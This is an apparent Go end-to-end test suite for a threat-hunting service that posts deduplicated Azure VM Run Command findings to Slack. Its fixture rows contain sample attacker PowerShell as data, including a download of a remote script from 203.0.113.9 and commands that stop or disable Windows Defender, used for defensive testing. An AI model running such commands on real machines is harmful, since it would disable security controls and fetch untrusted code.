package main

import (
	"encoding/json"
	"os"
	"os/exec"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/huntwatch/huntwatch/handler/internal/e2e"
	"github.com/huntwatch/huntwatch/handler/internal/fakeazure"
	"github.com/huntwatch/huntwatch/handler/internal/fakeslack"
	"github.com/huntwatch/huntwatch/handler/internal/loopback"
)

// The end-to-end tests run the built binary as the Functions host does, against Azurite, a TLS Log
// Analytics server, an App Service identity endpoint and a local Slack (handler/internal/e2e).

func TestMain(m *testing.M) {
	code := m.Run()
	e2e.RemoveBinaries()
	os.Exit(code)
}

// finding is a row of e2e.Columns: one Run Command of script fp on vm, minute minutes into the
// last two hours.
func finding(minute int, corr, vm, fp string, cmds ...string) []any {
	list, _ := json.Marshal(cmds)
	sub := "0b1f6471-1bf0-4dda-aec3-cb9272f09590"
	return []any{time.Now().UTC().Add(time.Duration(minute-120) * time.Minute).Format(time.RFC3339Nano), corr,
		"alice@contoso.com", "203.0.113.7", sub, vm,
		"/subscriptions/" + sub + "/resourceGroups/rg-prod/providers/Microsoft.Compute/virtualMachines/" + vm,
		"script0.ps1", 812, string(list), fp, corr}
}

// fingerprintsPosted lists the fingerprint of each top-level message (thread replies tell further
// occurrences of a posted one).
func fingerprintsPosted(s *fakeslack.Server) []string {
	var fps []string
	for _, m := range s.Messages() {
		if m.ThreadTS != "" {
			continue
		}
		for _, fp := range []string{"fp-A", "fp-B", "fp-C", "fp-D", "fp-E"} {
			if strings.Contains(string(m.Blocks), fp) || strings.Contains(m.Text, fp) {
				fps = append(fps, fp)
			}
		}
	}
	return fps
}

func TestEndToEnd(t *testing.T) {
	if testing.Short() {
		t.Skip("slow end-to-end test: skipped with -short")
	}
	w := e2e.NewWorld(t)
	rows := [][]any{
		finding(0, "corr-1", "web-01", "fp-A", "Get-Process", "whoami"),
		finding(5, "corr-2", "web-02", "fp-A", "Get-Process", "whoami"),
		finding(7, "corr-3", "db-01", "fp-B", "Invoke-WebRequest http://203.0.113.9/x.ps1"),
	}
	w.LA.SetTable(fakeazure.Table{Columns: e2e.Columns, Rows: rows})
	p := w.Start(t)
	posted := func() string { return strings.Join(fingerprintsPosted(w.Slack), " ") }

	t.Run("first run posts each new fingerprint once", func(t *testing.T) {
		r := p.Invoke(t)
		if r.Status != 200 || posted() != "fp-A fp-B" {
			t.Fatalf("status %d, posted %q, logs %q\n%s", r.Status, posted(), r.Logs, p.Stderr)
		}
		if !strings.Contains(strings.Join(r.Logs, " "), "2 new") {
			t.Errorf("summary %q", r.Logs)
		}
		reqs := w.LA.Requests()
		if len(reqs) != 1 || !strings.HasPrefix(reqs[0].Query, "let HuntStart = datetime(") || reqs[0].Authorization != "Bearer "+e2e.AccessToken {
			t.Errorf("query request %+v", reqs)
		}
	})
	t.Run("second identical run posts nothing", func(t *testing.T) {
		if r := p.Invoke(t); r.Status != 200 || posted() != "fp-A fp-B" {
			t.Fatalf("status %d, posted %q", r.Status, posted())
		}
	})
	t.Run("a new fingerprint posts exactly one message", func(t *testing.T) {
		rows = append(rows, finding(30, "corr-4", "web-01", "fp-C", "net user"))
		w.LA.SetTable(fakeazure.Table{Columns: e2e.Columns, Rows: rows})
		if r := p.Invoke(t); r.Status != 200 || posted() != "fp-A fp-B fp-C" {
			t.Fatalf("status %d, posted %q", r.Status, posted())
		}
	})
	t.Run("a failed Slack post is delivered by the next run", func(t *testing.T) {
		rows = append(rows, finding(40, "corr-5", "web-03", "fp-D", "Stop-Service WinDefend"))
		w.LA.SetTable(fakeazure.Table{Columns: e2e.Columns, Rows: rows})
		w.Slack.ErrorNext(1, "invalid_auth")
		r := p.Invoke(t)
		if r.Status != 500 || posted() != "fp-A fp-B fp-C" {
			t.Fatalf("failing run: status %d, posted %q\n%s", r.Status, posted(), p.Stderr)
		}
		// stderr is copied from a pipe: wait for the line rather than read it at once.
		if !e2e.Eventually(func() bool { return strings.Contains(p.Stderr.String(), "invalid_auth") }) {
			t.Errorf("stderr lacks the reason:\n%s", p.Stderr)
		}
		if r := p.Invoke(t); r.Status != 200 || posted() != "fp-A fp-B fp-C fp-D" {
			t.Fatalf("next run: status %d, posted %q\n%s", r.Status, posted(), p.Stderr)
		}
	})
	t.Run("two concurrent invocations post a new fingerprint once", func(t *testing.T) {
		rows = append(rows, finding(50, "corr-6", "web-04", "fp-E", "Set-MpPreference -DisableRealtimeMonitoring $true"))
		w.LA.SetTable(fakeazure.Table{Columns: e2e.Columns, Rows: rows})
		var wg sync.WaitGroup
		statuses := make([]int, 2)
		for i := range statuses {
			wg.Go(func() { statuses[i] = p.Invoke(t).Status })
		}
		wg.Wait()
		if statuses[0] != 200 || statuses[1] != 200 || posted() != "fp-A fp-B fp-C fp-D fp-E" {
			t.Fatalf("statuses %v, posted %q", statuses, posted())
		}
	})
	t.Run("a restarted process still remembers", func(t *testing.T) {
		p.Stop(t)
		p = w.Start(t)
		if r := p.Invoke(t); r.Status != 200 || posted() != "fp-A fp-B fp-C fp-D fp-E" {
			t.Fatalf("status %d, posted %q", r.Status, posted())
		}
	})
	t.Run("no secret in any output", func(t *testing.T) {
		var all string
		for _, p := range w.Procs {
			all += p.Stdout.String() + p.Stderr.String()
		}
		if !strings.Contains(all, "posted") {
			t.Fatal("no output captured")
		}
		for _, m := range w.Slack.Messages() {
			all += m.Text + string(m.Blocks)
		}
		for _, s := range w.Secrets() {
			if strings.Contains(all, s) {
				t.Errorf("secret %.6s… appears in the output", s)
			}
		}
	})
}

func TestServeRefusesIncompleteSettings(t *testing.T) {
	cmd := exec.Command(e2e.Build(t), "serve")
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "FUNCTIONS_CUSTOMHANDLER_PORT=" + loopback.Port(t), "HUNT_LOOKBACK=often", "SLACK_WEBHOOK_URL=https://hooks.example/services/T0/B0/verysecretvalue"}
	out, err := cmd.CombinedOutput()
	if err == nil {
		t.Fatal("serve started without settings")
	}
	for _, want := range []string{"HUNT_LOOKBACK", `"often"`} {
		if !strings.Contains(string(out), want) {
			t.Errorf("output lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(string(out), "verysecretvalue") {
		t.Errorf("secret echoed:\n%s", out)
	}
}
